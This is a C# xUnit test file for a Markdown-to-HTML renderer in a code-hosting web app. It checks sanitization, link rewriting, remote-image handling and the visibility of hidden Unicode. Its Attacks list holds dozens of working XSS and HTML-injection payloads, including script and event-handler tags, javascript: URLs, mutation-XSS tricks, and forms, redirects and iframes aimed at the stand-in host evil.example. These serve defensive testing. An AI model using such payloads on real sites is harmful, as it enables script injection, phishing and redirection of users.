using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Krate.Web.Components.Code;
using Krate.Web.Components.Markdown;
using Krate.Web.Features.Code;
using Xunit;

namespace Krate.Tests.Components;

public sealed class MarkdownTests : IDisposable
{
    private static readonly RepositoryLinks Links = new(new CodeUrls("acme", "web"), "main", "docs/guide.md");
    private readonly CodeHighlighter highlighter = new();

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    public void Dispose() => highlighter.Dispose();

    public static TheoryData<string> Attacks => new(
        "<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" ONERROR=\"alert(1)\">",
        "<b onmouseover=alert(1)>x</b>",
        "<details open ontoggle=alert(1)>x</details>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"java&#10;script:alert(1)\">x</a>",
        "<a href=\"\u0001javascript:alert(1)\">x</a>",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        "![x](javascript:alert(1))",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<!--<!-- --><img src=x onerror=alert(1)> -->",
        "<!--><script>alert(1)</script>-->",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<p style=\"background:url(https://evil.example/x)\">x</p>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=x></object><embed src=x><applet code=x>",
        "<form action=\"https://evil.example\"><input name=password type=text><button>Go</button></form>",
        "<input type=image src=x formaction=javascript:alert(1)>",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<a id=main name=getElementById>x</a><img name=body><form id=k-keys>",
        "<video src=x onerror=alert(1)><source src=x></video>",
        "<template><script>alert(1)</script></template>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<textarea><img src=x onerror=alert(1)></textarea>",
        "<a href=x target=_blank data-k-copy=x class=\"k-skip k-drawer\">x</a>",
        "```html\"><script>alert(1)</script>\n<script>alert(1)</script>\n```",
        "`<img src=x onerror=alert(1)>`",
        "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
        "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
        "<https://example.com/\"onmouseover=alert(1)>",
        "![\"onerror=alert(1)](x)",
        "[x](x \"\" onmouseover=alert(1) \"\")");

    [Theory]
    [MemberData(nameof(Attacks))]
    public async Task Nothing_that_people_write_runs_loads_or_takes_the_place_of_the_page(string markdown)
    {
        var html = await RenderAsync(markdown);
        foreach (var element in Parse(html).QuerySelectorAll("*")) AssertHarmless(element);
        // A second reading finds what the first found: nothing changes its meaning on the way.
        Assert.Equal(Parse(html).InnerHtml, Parse(Parse(html).InnerHtml).InnerHtml);
    }

    [Theory]
    [InlineData("[a](other.md)", "/orgs/acme/repositories/web/blob/main/docs/other.md")]
    [InlineData("[a](../src/a%20b.cs#L3)", "/orgs/acme/repositories/web/blob/main/src/a%20b.cs#md-L3")]
    [InlineData("[a](/README.md)", "/orgs/acme/repositories/web/blob/main/README.md")]
    [InlineData("[a](..)", "/orgs/acme/repositories/web/tree/main")]
    [InlineData("[a](#part)", "/orgs/acme/repositories/web/blob/main/docs/guide.md#md-part")]
    [InlineData("[a](../../../admin)", null)]
    [InlineData("[a](mailto:a@b.example)", "mailto:a@b.example")]
    public async Task Links_without_a_host_lead_to_the_same_revision(string markdown, string? href) =>
        Assert.Equal(href, Parse(await RenderAsync(markdown)).QuerySelector("a")!.GetAttribute("href"));

    [Theory]
    [InlineData("[good](https://evil.example/x)")]
    [InlineData("[good](//evil.example/x)")]
    [InlineData("<a href=\"\\\\evil.example/x\">good</a>")]
    public async Task A_link_to_another_host_says_so_and_tells_it_nothing(string markdown)
    {
        var link = Parse(await RenderAsync(markdown)).QuerySelector("a")!;
        Assert.Equal("https://evil.example/x", link.GetAttribute("href"));
        Assert.Equal("noopener noreferrer nofollow", link.GetAttribute("rel"));
        Assert.Contains("evil.example", link.TextContent, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Images_of_the_repository_are_shown_and_those_of_others_are_named()
    {
        var body = Parse(await RenderAsync("![own](../a.png) ![far](https://img.example/x.png?who=me)"));
        Assert.Equal("/orgs/acme/repositories/web/raw/main/a.png", Assert.Single(body.QuerySelectorAll("img")).GetAttribute("src"));
        Assert.Equal("far (image on img.example)", body.QuerySelector(".k-md__remote")!.TextContent);
    }

    [Fact]
    public async Task The_dialect_of_GitHub_is_understood()
    {
        var body = Parse(await RenderAsync("# A head\n\n- [x] done\n\n| a |\n|---|\n| 1 |\n\n~~old~~ https://x.example note[^1]\n\n[^1]: Said.\n\n```csharp\nvar x = \"y\";\n```\n"));
        Assert.Equal("md-a-head", body.QuerySelector("h1")!.Id);
        Assert.True(body.QuerySelector("li input[type=checkbox]")!.HasAttribute("disabled"));
        Assert.NotNull(body.QuerySelector("table td"));
        Assert.NotNull(body.QuerySelector("del"));
        Assert.NotNull(body.QuerySelector("a[href='https://x.example/']"));
        Assert.NotNull(body.QuerySelector(".footnotes"));
        Assert.Equal("\"y\"", body.QuerySelector("pre .k-st")!.TextContent);
    }

    [Fact]
    public async Task A_text_nested_without_end_is_shown_as_it_is() =>
        Assert.Contains("&gt;", await RenderAsync(new string('>', 5000) + "x"), StringComparison.Ordinal);

    [Theory]
    [InlineData("if (admin\u202e) { return\u2066 }", "if (admin[U+202E]) { return[U+2066] }")]
    [InlineData("`zero\u200bwidth`", "zero[U+200B]width")]
    [InlineData("```sh\nrm\u2060 -rf\n```", "rm[U+2060] -rf")]
    [InlineData("bell\u0007 and \u001b[31mred", "bell\u2407 and \u241b[31mred")]
    [InlineData("a family \ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67 stays", "a family \ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67 stays")]
    public async Task Characters_that_hide_or_turn_text_are_seen(string markdown, string shown) =>
        Assert.Equal(shown, Parse(await RenderAsync(markdown)).TextContent.Trim());

    private Task<string> RenderAsync(string markdown) => new MarkdownRenderer(highlighter).RenderAsync(markdown, Links, Ct);

    private static IElement Parse(string html) => new HtmlParser().ParseDocument($"<!doctype html><body>{html}</body>").Body!;

    private static void AssertHarmless(IElement element)
    {
        string[] forbidden = ["script", "style", "iframe", "object", "embed", "svg", "math", "form", "button", "textarea", "base", "meta", "link", "template", "video", "noscript", "source", "xmp"];
        Assert.DoesNotContain(element.LocalName, forbidden);
        foreach (var attribute in element.Attributes)
        {
            Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), element.OuterHtml);
            Assert.DoesNotContain(attribute.Name, (string[])["style", "name", "srcdoc", "action", "formaction", "target", "xlink:href", "data-k-copy"]);
        }

        if (element.GetAttribute("id") is { } id) Assert.StartsWith("md-", id, StringComparison.Ordinal);
        foreach (var css in element.ClassList) Assert.DoesNotContain(css, (string[])["k-skip", "k-drawer"]);
        if (element.GetAttribute("href") is { } href) Assert.Matches("^(/orgs/acme/|https?://|mailto:)", href);
        if (element.GetAttribute("src") is { } src) Assert.StartsWith("/orgs/acme/repositories/web/raw/", src, StringComparison.Ordinal);
        if (element.LocalName == "input") Assert.Equal("checkbox", element.GetAttribute("type"));
    }
}
